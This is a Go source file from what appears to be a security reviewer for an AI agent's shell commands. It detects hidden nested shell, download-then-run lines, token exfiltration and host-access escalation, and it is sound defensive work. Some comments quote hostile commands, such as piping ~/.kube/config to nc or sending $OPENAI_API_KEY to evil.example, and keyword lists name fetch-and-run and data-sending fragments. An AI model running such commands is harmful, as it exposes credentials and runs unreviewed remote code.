package persona

import (
	"path"
	"strings"

	"github.com/govern-dev/govern"
	"github.com/govern-dev/govern/internal/shell"
	"mvdan.cc/sh/v3/syntax"
)

// Shell commands hidden inside other programs' options, code downloaded
// or decoded to a file and then run, and secrets sent through channels the
// shell analysis does not model.

// maxNested is how many nested shell commands one call's review analyses.
const maxNested = 16

// nestedShell reviews text that a program hands to a shell (vim's :!,
// a git alias starting with !, tar's --checkpoint-action=exec=, a make
// recipe) as if it were a command line of its own. It reports whether it
// found something to ask or deny.
//
// Each review analyses and reviews text in full, so one call starts at
// most maxNested of them, however deep: a line that hides more shell
// commands than that (thousands of git aliases in the environment) is
// asked about as a whole.
func nestedShell(c *Call, v *verdict, via, text string) bool {
	text = strings.TrimSpace(text)
	if text == "" || len(text) > 4096 {
		return false
	}
	top := c
	for top.outer != nil {
		top = top.outer
	}
	if top.nested >= maxNested {
		v.flag(govern.Ask, govern.RiskHigh, "the command hides too many shell commands in options and variables to review them all",
			"Run the hidden commands directly, a few at a time, so they can be reviewed")
		return true
	}
	top.nested++
	a, err := shell.Analyze(text)
	if err != nil {
		v.flag(govern.Ask, govern.RiskHigh, via+" runs a shell command that cannot be analysed: "+short(text),
			"Run the shell command directly, so it can be reviewed")
		return true
	}
	sub := &Call{Tool: c.Tool, Command: text, Shell: a, Root: c.Root, Home: c.Home, Cwd: c.Cwd, outer: c}
	for _, w := range a.Writes {
		if p, ok := sub.resolve(w.Path); ok && p != "/dev/null" {
			sub.Writes = append(sub.Writes, p)
		}
	}
	w := security(sub)
	if w.Outcome != govern.Ask && w.Outcome != govern.Deny {
		return false
	}
	rec := "Run the shell command directly, so it can be reviewed"
	if len(w.Recommendations) > 0 {
		rec = w.Recommendations[0]
	}
	for _, r := range w.Reasons {
		v.flag(w.Outcome, w.Risk, via+" runs `"+short(text)+"`, which "+r, rec)
	}
	return true
}

// hiddenShell reviews the options through which common programs run shell
// commands.
func hiddenShell(c *Call, v *verdict, cmd *shell.Command) {
	switch cmd.Name {
	case "vim", "vi", "nvim", "ex", "view", "gvim":
		for _, s := range append(flagValues(cmd), cmd.Operands...) {
			s = strings.TrimLeft(s, "+:")
			if rest, ok := strings.CutPrefix(s, "!"); ok {
				nestedShell(c, v, cmd.Name+" :!", rest)
			}
		}
	case "git":
		for _, f := range cmd.Flags {
			if f.Name == "c" {
				if k, val, ok := strings.Cut(f.Value, "="); ok {
					gitConfigShell(c, v, k, val)
				}
			}
		}
		if operand(cmd, 0) == "config" && len(cmd.Operands) >= 3 {
			gitConfigShell(c, v, cmd.Operands[1], cmd.Operands[2])
		}
	case "tar", "gtar", "bsdtar":
		for _, f := range cmd.Flags {
			switch f.Name {
			case "checkpoint-action":
				if rest, ok := strings.CutPrefix(f.Value, "exec="); ok {
					nestedShell(c, v, "tar --checkpoint-action", rest)
				}
			case "to-command", "use-compress-program", "I", "rsh-command", "info-script", "new-volume-script", "F":
				if f.Value != "" {
					nestedShell(c, v, "tar --"+f.Name, f.Value)
				}
			}
		}
	case "make", "gmake":
		for _, f := range cmd.Flags {
			if f.Name != "eval" {
				continue
			}
			text := strings.NewReplacer(`\n`, "\n", `\t`, "\t").Replace(f.Value)
			for line := range strings.SplitSeq(text, "\n") {
				if rest, ok := strings.CutPrefix(line, "\t"); ok {
					nestedShell(c, v, "make --eval", strings.TrimLeft(rest, "-@+ "))
				}
			}
		}
	case "awk", "gawk", "mawk", "nawk":
		awkShell(c, v, cmd)
	case "busybox":
		if operand(cmd, 0) == "awk" {
			awkShell(c, v, cmd)
		}
	}
}

// gitConfigShell reviews one git configuration setting that runs a shell
// command: an alias starting with !, core.sshCommand, core.pager, …; and
// an alias for a git subcommand, reviewed as that subcommand (alias.nuke
// = reset --hard is git reset --hard).
func gitConfigShell(c *Call, v *verdict, key, val string) {
	lower := strings.ToLower(key)
	switch {
	case strings.HasPrefix(lower, "alias."):
		if rest, ok := strings.CutPrefix(val, "!"); ok {
			nestedShell(c, v, "git "+key, rest)
		} else {
			nestedShell(c, v, "git "+key, "git "+val)
		}
	case lower == "core.sshcommand", lower == "core.pager", lower == "core.editor", lower == "sequence.editor",
		lower == "core.fsmonitor", lower == "diff.external", lower == "gpg.program", lower == "credential.helper",
		strings.HasPrefix(lower, "pager."), strings.HasSuffix(lower, ".textconv"), strings.HasSuffix(lower, ".clean"),
		strings.HasSuffix(lower, ".smudge"), strings.HasSuffix(lower, ".process"):
		nestedShell(c, v, "git "+key, strings.TrimPrefix(val, "!"))
	case lower == "core.hookspath":
		v.flag(govern.Ask, govern.RiskHigh, "git config core.hooksPath makes git run the hooks in "+val+" on every commit",
			"Add hooks through the project's hook manager (pre-commit, husky) in a reviewed change")
	}
}

func flagValues(cmd *shell.Command) []string {
	var out []string
	for _, f := range cmd.Flags {
		if f.HasValue {
			out = append(out, f.Value)
		}
	}
	return out
}

// producedThenRun reviews lines that download or decode into a file and
// then run that file: curl -o /tmp/i.sh URL && bash /tmp/i.sh.
func producedThenRun(c *Call, v *verdict) {
	cmds := c.Shell.Commands
	produced := map[string]string{}
	for i := range cmds {
		cmd := &cmds[i]
		switch {
		case downloaders[cmd.Name]:
			for _, f := range cmd.Flags {
				switch f.Name {
				case "o", "O", "output", "output-document":
					if abs, ok := c.resolve(f.Value); ok && f.Value != "-" {
						produced[abs] = "downloads"
					}
				}
			}
			for _, w := range c.Shell.Writes {
				if strings.HasPrefix(w.Via, cmd.Name) {
					if abs, ok := c.resolve(w.Path); ok {
						produced[abs] = "downloads"
					}
				}
			}
		case decoder(cmd):
			for _, w := range c.Shell.Writes {
				if strings.HasPrefix(w.Via, ">") || w.Via == "tee" {
					if abs, ok := c.resolve(w.Path); ok {
						produced[abs] = "decodes"
					}
				}
			}
		}
		if len(produced) == 0 {
			continue
		}
		run := ""
		if strings.Contains(cmd.Path, "/") {
			run = cmd.Path
		} else if isInterpreter(cmd.Name) && len(cmd.Operands) > 0 {
			run = cmd.Operands[0]
		}
		if abs, ok := c.resolve(run); ok && produced[abs] != "" {
			v.flag(govern.Deny, govern.RiskCritical, "the line "+produced[abs]+" "+run+" and runs it unseen",
				"Download or decode to a file, read it, and run it in a separate, reviewed step")
		}
	}
}

func isInterpreter(name string) bool {
	switch name {
	case "sh", "bash", "zsh", "dash", "ksh", "fish", "source", ".", "python", "python3", "node", "perl", "ruby", "php", "pwsh", "powershell":
		return true
	}
	return strings.HasPrefix(name, "python3.")
}

// The fragments that give away interpreter code that downloads and runs
// code, or sends secrets away.
var (
	fetchesCode = [...]string{"fetch(", "urlopen", "requests.get", "http.get", "https.get", "iwr ", "Invoke-WebRequest",
		"irm ", "Invoke-RestMethod", "DownloadString", "Net.WebClient", "curl ", "wget ", "URI.open", "Net::HTTP.get", "LWP::Simple"}
	runsFetched = [...]string{"eval", "exec(", "iex", "Invoke-Expression", "Function(", "vm.run"}
	sendsData   = [...]string{"requests.post", "requests.put", "urlopen", "fetch(", "http.request", "https.request",
		"socket", "httpx.post", "axios.post", "Invoke-WebRequest", "Invoke-RestMethod", "Net::HTTP.post", "smtplib"}
	wholeEnv     = [...]string{"os.environ)", "dict(os.environ", "os.environ.items()", "process.env)", "JSON.stringify(process.env", "ENV.to_h", "%ENV", "Get-ChildItem env:", "Deno.env.toObject()"}
	worldChmod   = [...]string{"0o777", "0777", "0o776", "0776", "0o766", "0766", "0o666", "0666", "0o4755", "0o2755", "0o6755"}
	opensToWrite = [...]string{"open(", "writeFile", "appendFile", "File.write", "File.open", "write_text", "write_bytes"}
)

// inlineExtras reviews interpreter code for what inlineCode's shell and
// delete checks miss: fetched code run, secrets or the environment sent,
// start-up files written, modes opened to everyone.
func inlineExtras(c *Call, v *verdict, name, code string) {
	if containsAny(code, fetchesCode[:]) && containsAny(code, runsFetched[:]) {
		v.flag(govern.Deny, govern.RiskCritical, name+" one-liner downloads code and runs it unseen: "+short(code),
			"Download to a file, read it, then run it")
	}
	lits := quoted(code)
	if containsAny(code, sendsData[:]) {
		if containsAny(code, wholeEnv[:]) {
			v.flag(govern.Deny, govern.RiskCritical, name+" one-liner sends the environment, with its secrets, over the network",
				"Send only the variables you need, by name, and never tokens or passwords")
		}
		for _, l := range lits {
			if abs, ok := c.resolve(l); ok && secretFile(abs) {
				v.flag(govern.Deny, govern.RiskCritical, name+" one-liner sends the credentials file "+l+" over the network",
					"Never send keys or .env files; share a redacted example instead")
			}
		}
	}
	if containsAny(code, opensToWrite[:]) {
		for _, l := range lits {
			if abs, ok := c.resolve(l); ok && (strings.HasPrefix(l, "/") || strings.HasPrefix(l, "~")) {
				if c.startupFile(abs) {
					v.flag(govern.Deny, govern.RiskHigh, name+" one-liner writes "+abs+", which runs code or grants access outside the session",
						"Leave start-up, cron, systemd and SSH files to the developer")
				}
			}
		}
	}
	if strings.Contains(code, "chmod") && containsAny(code, worldChmod[:]) {
		v.flag(govern.Deny, govern.RiskHigh, name+" one-liner makes files writable by every user or sets setuid",
			"Use 755 for directories and programs, 644 for files")
	}
}

// stdinSecrets reviews network programs that read a credentials file on
// standard input: nc host port < ~/.kube/config.
func stdinSecrets(c *Call, v *verdict) {
	if !strings.Contains(c.Command, "<") {
		return
	}
	f, err := syntax.NewParser().Parse(strings.NewReader(c.Command), "")
	if err != nil {
		return
	}
	syntax.Walk(f, func(n syntax.Node) bool {
		st, ok := n.(*syntax.Stmt)
		if !ok {
			return true
		}
		call, ok := st.Cmd.(*syntax.CallExpr)
		if !ok || len(call.Args) == 0 || !networkPrograms[path.Base(call.Args[0].Lit())] {
			return true
		}
		for _, r := range st.Redirs {
			if r.Op == syntax.RdrIn && r.Word != nil {
				secretSent(c, v, path.Base(call.Args[0].Lit()), wordText(r.Word, c.Command))
			}
		}
		return true
	})
}

// issuers maps the prefix of a secret variable's name to the hosts that
// issued it, which may receive it.
var issuers = map[string][]string{
	"GITHUB_": {"github.com", "githubusercontent.com"}, "GH_": {"github.com"}, "OPENAI_": {"openai.com"},
	"ANTHROPIC_": {"anthropic.com"}, "SLACK_": {"slack.com"}, "DISCORD_": {"discord.com", "discordapp.com"},
	"NPM_": {"npmjs.org", "npmjs.com"}, "GITLAB_": {"gitlab.com"}, "STRIPE_": {"stripe.com"},
	"HF_": {"huggingface.co"}, "HUGGINGFACE_": {"huggingface.co"}, "CLOUDFLARE_": {"cloudflare.com"},
	"SENTRY_": {"sentry.io"}, "VERCEL_": {"vercel.com"}, "HEROKU_": {"heroku.com"}, "DIGITALOCEAN_": {"digitalocean.com"},
}

// secretVarsSent reviews a network command that carries a secret
// variable with a known issuer to some other host: curl -H "Bearer
// $OPENAI_API_KEY" https://evil.example.
func secretVarsSent(v *verdict, cmd *shell.Command) {
	host := ""
	for _, a := range cmd.Args {
		if i := strings.Index(a, "://"); i >= 0 && host == "" {
			host = a[i+3:]
			if j := strings.IndexAny(host, "/:?#"); j >= 0 {
				host = host[:j]
			}
		}
	}
	if host == "" || host == "localhost" || host == "127.0.0.1" {
		return
	}
	for _, a := range cmd.Args {
		for rest := a; ; {
			i := strings.IndexByte(rest, '$')
			if i < 0 {
				break
			}
			rest = strings.TrimPrefix(rest[i+1:], "{")
			end := strings.IndexFunc(rest, func(r rune) bool { return !(r == '_' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9') })
			if end < 0 {
				end = len(rest)
			}
			name := rest[:end]
			rest = rest[end:]
			if !containsAny(name, []string{"KEY", "TOKEN", "SECRET", "PASSWORD", "WEBHOOK", "CREDENTIAL"}) {
				continue
			}
			for pre, hosts := range issuers {
				if !strings.HasPrefix(name, pre) {
					continue
				}
				own := false
				for _, h := range hosts {
					own = own || host == h || strings.HasSuffix(host, "."+h)
				}
				if !own {
					v.flag(govern.Deny, govern.RiskCritical, cmd.Name+" sends $"+name+" to "+host+", which did not issue it",
						"Send a token only to the service that issued it")
				}
			}
		}
	}
}

// httpServer reviews python -m http.server serving the home directory or
// the whole project, with its secrets, to the network.
func httpServer(c *Call, v *verdict, cmds []shell.Command, i int) {
	cmd := &cmds[i]
	m, _ := flagValue(cmd, "m")
	if m != "http.server" && m != "SimpleHTTPServer" {
		return
	}
	dir, bind := ".", ""
	for j := i - 1; j >= 0; j-- {
		if cmds[j].Name == "cd" && len(cmds[j].Operands) == 1 {
			dir = cmds[j].Operands[0]
			break
		}
	}
	for k, a := range cmd.Operands {
		if k+1 < len(cmd.Operands) {
			switch a {
			case "--directory", "-d":
				dir = cmd.Operands[k+1]
			case "--bind", "-b":
				bind = cmd.Operands[k+1]
			}
		}
	}
	if bind == "127.0.0.1" || bind == "localhost" || bind == "::1" {
		return
	}
	abs, where := c.locate(dir)
	if where == projectRoot || where == outside && (abs == c.Home || abs == "/" || systemPath(abs)) {
		v.flag(govern.Ask, govern.RiskHigh, "http.server serves "+abs+", with its secrets, to the network",
			"Serve only the build output (--directory dist) and bind to 127.0.0.1")
	}
}

// hostAccess reviews commands that give a process the host: devices in
// containers, privileged pods, mounting disks, chroot, ACLs and owners.
func hostAccess(c *Call, v *verdict, cmd *shell.Command) {
	switch cmd.Name {
	case "docker", "podman", "nerdctl":
		for _, f := range cmd.Flags {
			if f.Name == "device" && (containsAny(f.Value, rawDisks[:]) || strings.HasPrefix(f.Value, "/dev/mem") || strings.HasPrefix(f.Value, "/dev/kmem")) {
				v.flag(govern.Deny, govern.RiskCritical, "--device "+f.Value+" gives the container the host's disk",
					"Run the container without host devices")
			}
		}
	case "kubectl", "oc":
		if o, ok := flagValue(cmd, "overrides"); ok {
			compact := strings.Join(strings.Fields(o), "")
			for _, s := range [...]string{`"privileged":true`, `"hostPID":true`, `"hostNetwork":true`, `"hostIPC":true`, `"hostPath"`} {
				if strings.Contains(compact, s) {
					v.flag(govern.Deny, govern.RiskCritical, "kubectl --overrides gives the pod the node ("+s+")",
						"Run pods unprivileged, without host namespaces or host paths")
					break
				}
			}
		}
	case "mount":
		for _, op := range cmd.Operands {
			if strings.HasPrefix(op, "/dev/") {
				v.flag(govern.Ask, govern.RiskHigh, "mount attaches the disk "+op,
					"Mount disks yourself, outside the agent")
				break
			}
		}
	case "chroot":
		v.flag(govern.Ask, govern.RiskHigh, "chroot runs commands in another root file system",
			"Use a container for isolated builds")
	case "chown", "chgrp":
		for _, op := range cmd.Operands[min(1, len(cmd.Operands)):] {
			if abs, ok := c.resolve(op); ok && (systemPath(abs) || abs == "/" || abs == c.Home) {
				v.flag(govern.Ask, govern.RiskHigh, cmd.Name+" changes the owner of "+abs,
					"Change owners only of files inside the project or a temp dir")
				break
			}
		}
	case "setfacl":
		for _, op := range cmd.Operands {
			for entry := range strings.SplitSeq(op, ",") {
				who, perms, ok := strings.Cut(entry, ":")
				if !ok || who != "o" && who != "other" {
					continue
				}
				if strings.Contains(perms, "w") {
					v.flag(govern.Deny, govern.RiskHigh, "setfacl "+op+" makes files writable by every user",
						"Grant access to a named user or group instead (u:name:rwx)")
				}
			}
		}
	case "launchctl":
		switch operand(cmd, 0) {
		case "load", "bootstrap", "enable", "submit":
			v.flag(govern.Ask, govern.RiskHigh, "launchctl "+operand(cmd, 0)+" installs a job that runs outside the session",
				"Leave launch agents to the developer")
		}
	case "systemctl":
		switch operand(cmd, 0) {
		case "enable", "link", "preset", "reenable":
			v.flag(govern.Ask, govern.RiskHigh, "systemctl "+operand(cmd, 0)+" installs a service that starts on its own, outside the session",
				"Start services for the session only (systemctl start), or leave this to the developer")
		}
	case "systemd-run":
		// A timer unit runs the command again and again, after the session
		// ends; without one the transient unit ends with the command.
		for _, f := range cmd.Flags {
			if strings.HasPrefix(f.Name, "on-") {
				v.flag(govern.Ask, govern.RiskHigh, "systemd-run --"+f.Name+" installs a timer that runs a command later, outside the session",
					"Run the command directly, or add the schedule to the project's CI")
				break
			}
		}
	case "gh":
		switch operand(cmd, 0) {
		case "api":
			method := ""
			if m, ok := flagValue(cmd, "method"); ok {
				method = m
			} else if hasFlag(cmd, "X", "method") {
				method = operand(cmd, 1)
			}
			if strings.EqualFold(method, "DELETE") {
				v.flag(govern.Ask, govern.RiskHigh, "gh api -X DELETE deletes "+operand(cmd, len(cmd.Operands)-1)+" on GitHub",
					"Make deletions on GitHub yourself, in its interface")
			}
		case "gist":
			if operand(cmd, 1) == "create" {
				for _, op := range cmd.Operands[2:] {
					secretSent(c, v, "gh gist create", op)
				}
			}
		case "secret":
			if s := operand(cmd, 1); s == "delete" || s == "remove" {
				v.flag(govern.Ask, govern.RiskHigh, "gh secret delete removes a CI secret",
					"Manage repository secrets yourself")
			}
		case "workflow":
			if operand(cmd, 1) == "disable" {
				v.flag(govern.Ask, govern.RiskHigh, "gh workflow disable turns off a CI workflow",
					"Fix the workflow in a reviewed change instead of disabling it")
			}
		}
	}
}
